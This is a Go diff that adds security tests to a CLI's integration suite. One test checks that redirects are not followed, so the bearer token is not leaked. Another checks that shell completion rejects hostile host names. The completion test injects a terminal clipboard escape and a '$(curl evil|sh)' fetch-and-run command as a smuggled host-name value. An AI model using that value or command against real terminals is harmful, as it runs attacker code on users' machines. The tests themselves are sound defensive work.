@@ -2,6 +2,7 @@ package integration
 
 import (
 	"net/http"
+	"net/http/httptest"
 	"regexp"
 	"strings"
 	"sync/atomic"
@@ -141,5 +142,64 @@ func TestCLIPrintsNoCommandTheServerCouldWrite(t *testing.T) {
 				t.Errorf("nodus %s, the server's %s rewritten: exit %d, printed %q", strings.Join(args, " "), field, code, out)
 			}
 		}
+	}
+}
+
+// TestCLIFollowsNoRedirect: a server (or a party in between) that answers
+// with a redirect to another address would have the client send the
+// user's token there, in clear text over http, and trust what answers.
+// The CLI follows no redirect: nothing reaches the other address.
+func TestCLIFollowsNoRedirect(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	f := newFleet(t, s)
+	var reached atomic.Int32
+	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+		reached.Add(1)
+		if req.Header.Get("Authorization") != "" {
+			t.Errorf("the token reached the redirect's address: %s %s", req.Method, req.URL)
+		}
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"kind":"ReservedHostList","apiVersion":"nodus.dev/v1","metadata":{},"items":[]}`))
+	}))
+	t.Cleanup(elsewhere.Close)
+	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
+		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
+			if !strings.Contains(req.URL.Path, "/reservedhosts") {
+				return false
+			}
+			http.Redirect(w, req, elsewhere.URL+req.URL.RequestURI(), http.StatusTemporaryRedirect)
+			return true
+		})
+	ownHome(t)
+	alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
+	out, code := alice.run("", "hosts", "list", "-n", "acme")
+	if code == 0 || reached.Load() != 0 || !strings.Contains(out, "redirect") {
+		t.Errorf("nodus hosts list, answered with a redirect: exit %d, the other address reached %d times: %q", code, reached.Load(), out)
+	}
+}
+
+// TestCLICompletesOnlyNamesItChecked: shell completion offers host names
+// from the server to the shell, which may run what a name holds where it
+// does not quote it. A name that is no host name (an escape sequence, a
+// tab that starts a fake description, a line break) is not offered.
+func TestCLICompletesOnlyNamesItChecked(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	f := newFleet(t, s)
+	sshableHost(t, s, f, "gpu-007")
+	from := regexp.MustCompile(`("name":")(gpu-007")`)
+	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
+		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
+			if req.Method != http.MethodGet || !strings.Contains(req.URL.Path, "/reservedhosts") {
+				return false
+			}
+			req.Header.Del("Accept-Encoding") // plain answers to rewrite
+			forward.ServeHTTP(&rewriter{ResponseWriter: w, from: from, to: []byte(`${1}x\u001b]52;c;Y3VybCBldmlsfHNoCg==\u0007\t$(curl evil|sh)\n${2}`)}, req)
+			return true
+		})
+	ownHome(t)
+	alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
+	out, _ := alice.run("", "__complete", "ssh", "")
+	if strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "curl evil") {
+		t.Errorf("completion offered a name that is no host name: %q", out)
 	}
 }
